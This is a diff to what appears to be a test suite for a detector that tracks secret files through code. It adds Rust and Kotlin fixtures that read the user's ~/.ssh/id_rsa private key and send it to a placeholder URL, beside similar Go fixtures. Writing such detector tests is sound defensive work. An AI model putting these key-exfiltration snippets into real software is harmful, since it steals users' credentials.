@@ -129,6 +129,14 @@ describe("a file of secrets is followed through functions and statements:", () =
       `package main\nfunc main() {\n\tfor _, p := range []string{"a.txt", ".ssh/id_rsa"} {\n\t\tkey, _ := os.ReadFile(filepath.Join(home, p))\n\t\t${sendsKey}\t}\n}`,
     ],
     [
+      "a computed last value of a function",
+      `use std::fs;\nfn load() -> String {\n    fs::read_to_string(home.join(".ssh/id_rsa")).unwrap()\n}\nfn main() {\n    ureq::post("${url}").send_string(&load());\n}`,
+    ],
+    [
+      "a stream of a connection, in Kotlin",
+      `import java.io.File\nfun main() {\n  val f = File(System.getProperty("user.home"), ".ssh/id_rsa")\n  val c = URL("${url}").openConnection()\n  c.outputStream.use { it.write(f.readBytes()) }\n}`,
+    ],
+    [
       "a member of what is sent",
       `package main\nfunc main() {\n${readsKey}\tk, v, _ := strings.Cut(key, "=")\n\treport.vars[k] = v\n\thttp.Post("${url}", "a/b", encode(report))\n}`,
     ],
